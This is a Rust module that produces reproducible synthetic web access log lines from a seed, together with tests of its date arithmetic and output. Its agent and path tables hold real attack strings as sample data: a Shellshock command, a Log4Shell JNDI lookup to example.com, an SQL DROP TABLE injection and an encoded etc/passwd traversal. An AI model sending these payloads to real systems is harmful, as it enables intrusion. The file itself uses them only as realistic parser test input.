//! Lines of a web server's access log, made up from a seed.
//!
//! The same seed gives the same lines on every platform: nothing but whole numbers is computed with.

use std::fmt::Write as _;

/// Lines in the combined log format, without end. Hosts are IPv4 and IPv6; users, referers and agents may be missing; quotes
/// are escaped, and what is not ASCII is written as it is or as `\xhh`. One line in a thousand is broken.
///
/// ```
/// use purefork_examples::access_log::AccessLog;
///
/// let line = AccessLog::new(0).next().unwrap_or_default();
/// assert_eq!(line, concat!(
///     r#"124.29.205.175 - root [01/Jan/2026:00:00:00 +0000] "DELETE /tags/2025/index.html HTTP/1.0" 404 121835 "-" "#,
///     r#""Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36""#,
/// ));
/// ```
#[derive(Clone, Debug)]
pub struct AccessLog {
    random: Random,
    /// Seconds since 1970: a log goes forward in time.
    time: i64,
}

/// 2026-01-01, midnight in UTC.
const BEGIN: i64 = 1_767_225_600;

const BROKEN_PER_MILLE: u32 = 1;
const USERS: &[&str] = &["ada", "j.doe", "kim@example.com", "Jürgen", "frank smith", r"o\x22hara", "李雷", "root"];
const METHODS: &[&str] = &["GET", "GET", "GET", "GET", "GET", "GET", "GET", "POST", "POST", "HEAD", "PUT", "DELETE"];
const RARE_METHODS: &[&str] = &["OPTIONS", "PATCH", "PROPFIND", "M-SEARCH"];
const PROTOCOLS: &[&str] = &["HTTP/1.1", "HTTP/1.1", "HTTP/1.1", "HTTP/2.0", "HTTP/2.0", "HTTP/1.0", "HTTP/3.0"];
const ZONES: &[&str] = &["+0000", "+0000", "+0000", "+0000", "+0530", "-0800", "+1345"];
const MONTHS: &[&str] = &["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const STATUSES: &[u16] =
    &[200, 200, 200, 200, 200, 200, 200, 200, 204, 206, 301, 302, 304, 304, 400, 401, 403, 404, 404, 500, 503];
const WORDS: &[&str] = &[
    "blog",
    "shop",
    "api",
    "v1",
    "v2",
    "users",
    "items",
    "search",
    "images",
    "2024",
    "2025",
    "tags",
    "static",
    "login",
    "feed",
    "index.html",
    "app.js",
    "style.css",
    "logo.png",
    "favicon.ico",
];
const ODD_WORDS: &[&str] = &[
    "%E2%82%AC",
    "caf\u{e9}",
    r"caf\xc3\xa9",
    "..%2f..%2fetc%2fpasswd",
    r#"say-\"hi\""#,
    "日本語",
    "a b",
    r"back\\slash",
    r"\xff\xfe",
    "<script>",
    "%00",
    "😀",
];
const QUERIES: &[&str] = &["q", "page", "id", "utm_source", "sort", "lang"];
const SITES: &[&str] =
    &["https://www.example.com/", "https://www.google.com/", "https://duckduckgo.com/", "https://bücher.example/"];
const GARBAGE: &[&str] = &[
    r"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    "-",
    "",
    "GET /",
    "quit",
    r"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    "SSH-2.0-Go",
    "get / HTTP/1.1",
    "GET  HTTP/1.1",
];
const SYSTEMS: &[&str] = &[
    "Windows NT 10.0; Win64; x64",
    "Macintosh; Intel Mac OS X 10_15_7",
    "X11; Linux x86_64",
    "Linux; Android 14; Pixel 8",
    "iPhone; CPU iPhone OS 17_5 like Mac OS X",
];
const ODD_AGENTS: &[&str] = &[
    "-",
    "",
    "curl/8.5.0",
    "Wget/1.21.4",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    r#"My \"Own\" Browser"#,
    "() { :; }; /bin/bash -c id",
    r"C:\\tool\\agent.exe",
    "Навигатор/1.0",
    r"tab\there",
    "${jndi:ldap://example.com/a}",
    "'; DROP TABLE logs; --",
    r"lone \ backslash",
];

impl AccessLog {
    /// The log of a seed.
    pub fn new(seed: u64) -> AccessLog {
        AccessLog { random: Random(seed), time: BEGIN }
    }

    /// Writes the next line to the end of `line`, without a line feed.
    pub fn write_line(&mut self, line: &mut String) {
        let start = line.len();
        self.host(line);
        self.user(line);
        self.time(line);
        self.request(line);
        self.answer(line);
        self.referer(line);
        self.agent(line);
        if self.random.per_mille(BROKEN_PER_MILLE) {
            self.break_line(line, start);
        }
    }

    fn host(&mut self, line: &mut String) {
        let bits = self.random.next();
        match self.random.below(100) {
            0 => put(line, format_args!("host-{}.example.net", bits % 1000)),
            1..=12 => {
                let [a, b, c, d] = [bits >> 48, bits >> 32 & 0xffff, bits >> 16 & 0xffff, bits & 0xffff];
                put(line, format_args!("2001:db8:{a:x}:{b:x}::{c:x}:{d:x}"));
            }
            _ => {
                let [_, _, _, _, a, b, c, d] = bits.to_be_bytes();
                put(line, format_args!("{}.{b}.{c}.{d}", a % 223 + 1));
            }
        }
    }

    fn user(&mut self, line: &mut String) {
        let user = if self.random.per_mille(70) { self.random.pick(USERS) } else { "-" };
        put(line, format_args!(" - {user}"));
    }

    fn time(&mut self, line: &mut String) {
        let zone = self.random.pick(ZONES);
        let [sign, h1, h0, m1, m0] = zone.as_bytes() else { return };
        let minutes = [(h1, 600), (h0, 60), (m1, 10), (m0, 1)].map(|(digit, each)| i64::from(digit - b'0') * each);
        let offset = minutes.iter().sum::<i64>() * if *sign == b'-' { -60 } else { 60 };
        let local = self.time + offset;
        let (days, seconds) = (local.div_euclid(86_400), local.rem_euclid(86_400));
        let (year, month, day) = date(days);
        let (hour, minute, second) = (seconds / 3600, seconds / 60 % 60, seconds % 60);
        let month = MONTHS[month as usize - 1];
        put(line, format_args!(" [{day:02}/{month}/{year}:{hour:02}:{minute:02}:{second:02} {zone}] "));
        self.time += i64::from(self.random.below(4) / 3 * self.random.below(20));
    }

    fn request(&mut self, line: &mut String) {
        if self.random.per_mille(8) {
            let garbage = self.random.pick(GARBAGE);
            return put(line, format_args!("\"{garbage}\""));
        }
        let methods = if self.random.per_mille(10) { RARE_METHODS } else { METHODS };
        put(line, format_args!("\"{} ", self.random.pick(methods)));
        self.path(line);
        put(line, format_args!(" {}\"", self.random.pick(PROTOCOLS)));
    }

    fn path(&mut self, line: &mut String) {
        // Now and then a path is as long as servers take them.
        let long = self.random.per_mille(2);
        let parts = if long { 40 + self.random.below(200) } else { self.random.below(5) };
        if parts == 0 {
            line.push('/');
        }
        for _ in 0..parts {
            let words = if self.random.per_mille(10) { ODD_WORDS } else { WORDS };
            put(line, format_args!("/{}", self.random.pick(words)));
        }
        let parameters = self.random.below(6).saturating_sub(3);
        for at in 0..parameters {
            let (name, value) = (self.random.pick(QUERIES), self.random.below(10_000));
            put(line, format_args!("{}{name}={value}", if at == 0 { '?' } else { '&' }));
        }
    }

    fn answer(&mut self, line: &mut String) {
        let status = STATUSES[self.random.below(STATUSES.len() as u32) as usize];
        put(line, format_args!(" {status} "));
        if matches!(status, 204 | 304) {
            line.push('-');
        } else {
            // As many small answers as large ones: from 0 to 64 MiB.
            let bits = self.random.below(27);
            put(line, format_args!("{}", self.random.below(1 << bits)));
        }
    }

    fn referer(&mut self, line: &mut String) {
        line.push_str(" \"");
        if self.random.per_mille(450) {
            line.push('-');
        } else {
            line.push_str(self.random.pick(SITES));
            let words = if self.random.per_mille(20) { ODD_WORDS } else { WORDS };
            line.push_str(self.random.pick(words));
        }
        line.push('"');
    }

    fn agent(&mut self, line: &mut String) {
        if self.random.per_mille(150) {
            return put(line, format_args!(" \"{}\"", self.random.pick(ODD_AGENTS)));
        }
        put(line, format_args!(" \"Mozilla/5.0 ({}) ", self.random.pick(SYSTEMS)));
        let version = 100 + self.random.below(45);
        match self.random.below(10) {
            0..=5 => {
                put(line, format_args!("AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36\""))
            }
            6 | 7 => put(line, format_args!("Gecko/20100101 Firefox/{version}.0\"")),
            _ => line.push_str("Safari/604.1\""),
        }
    }

    /// What happens to lines: cut, edited, written by two processes at a time, of another program.
    fn break_line(&mut self, line: &mut String, start: usize) {
        match self.random.below(6) {
            0 => {
                let length = line.len() - start;
                let at = (start..start + self.random.below(length as u32) as usize)
                    .rev()
                    .find(|at| line.is_char_boundary(*at));
                line.truncate(at.unwrap_or(start));
            }
            1 => line.truncate(start),
            2 => line.replace_range(start.., "Segmentation fault (core dumped)"),
            3 => {
                let other = line[start..].to_owned();
                line.push_str(&other);
            }
            4 => {
                let broken = line[start..].replacen("/2026:", "/Foo/2026:", 1);
                line.replace_range(start.., &broken);
            }
            _ => {
                let broken = line[start..].replacen("\" ", "\" 2e2 ", 1);
                line.replace_range(start.., &broken);
            }
        }
    }
}

impl Iterator for AccessLog {
    type Item = String;

    fn next(&mut self) -> Option<String> {
        let mut line = String::new();
        self.write_line(&mut line);
        Some(line)
    }
}

/// Writing to a string does not fail.
fn put(line: &mut String, text: std::fmt::Arguments<'_>) {
    let _ = line.write_fmt(text);
}

/// Year, month and day of a number of days since 1970, by the calendar that starts its years in March.
fn date(days: i64) -> (i64, i64, i64) {
    let days = days + 719_468;
    let (era, day) = (days.div_euclid(146_097), days.rem_euclid(146_097));
    let year = (day - day / 1_460 + day / 36_524 - day / 146_096) / 365;
    let day = day - (365 * year + year / 4 - year / 100);
    let month = (5 * day + 2) / 153;
    let (day, month) = (day - (153 * month + 2) / 5 + 1, if month < 10 { month + 3 } else { month - 9 });
    (year + era * 400 + i64::from(month <= 2), month, day)
}

/// SplitMix64.
#[derive(Clone, Debug)]
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ self.0 >> 30).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ mixed >> 27).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ mixed >> 31
    }

    /// A number below `end`; 0 if that is 0.
    fn below(&mut self, end: u32) -> u32 {
        (((self.next() >> 32) * u64::from(end)) >> 32) as u32
    }

    fn per_mille(&mut self, n: u32) -> bool {
        self.below(1000) < n
    }

    fn pick(&mut self, of: &'static [&'static str]) -> &'static str {
        of[self.below(of.len() as u32) as usize]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// FNV-1a, for a text that would be too long to write out.
    fn digest(lines: impl Iterator<Item = String>) -> u64 {
        let step = |digest: u64, byte| (digest ^ u64::from(byte)).wrapping_mul(0x100_0000_01b3);
        lines.fold(0xcbf2_9ce4_8422_2325, |digest, line| step(line.into_bytes().into_iter().fold(digest, step), b'\n'))
    }

    #[test]
    fn a_seed_gives_the_same_lines_everywhere() {
        assert_eq!(digest(AccessLog::new(0).take(100_000)), 10_968_653_972_259_765_192);
        assert_ne!(AccessLog::new(0).next(), AccessLog::new(1).next());
    }

    #[test]
    fn dates_are_those_of_the_calendar() {
        let dates = [
            (0, (1970, 1, 1)),
            (-1, (1969, 12, 31)),
            (11_016, (2000, 2, 29)),
            (20_454, (2026, 1, 1)),
            (20_819, (2027, 1, 1)),
        ];
        for (days, expected) in dates {
            assert_eq!(date(days), expected);
        }
    }

    #[test]
    fn lines_are_of_every_kind_and_no_line_is_two() {
        let lines: Vec<String> = AccessLog::new(7).take(50_000).collect();
        assert!(lines.iter().all(|line| !line.contains(char::is_control)));
        let kinds: [fn(&str) -> bool; 7] = [
            |line| line.starts_with("2001:db8:"),
            |line| line.contains(" - Jürgen ["),
            |line| line.contains(r#"\""#),
            |line| line.contains(r"\xc3\xa9"),
            |line| line.contains("\" 304 - \""),
            |line| line.is_empty(),
            |line| line.len() > 1000,
        ];
        for (at, kind) in kinds.iter().enumerate() {
            assert!(lines.iter().any(|line| kind(line)), "no line of kind {at}");
        }
    }
}
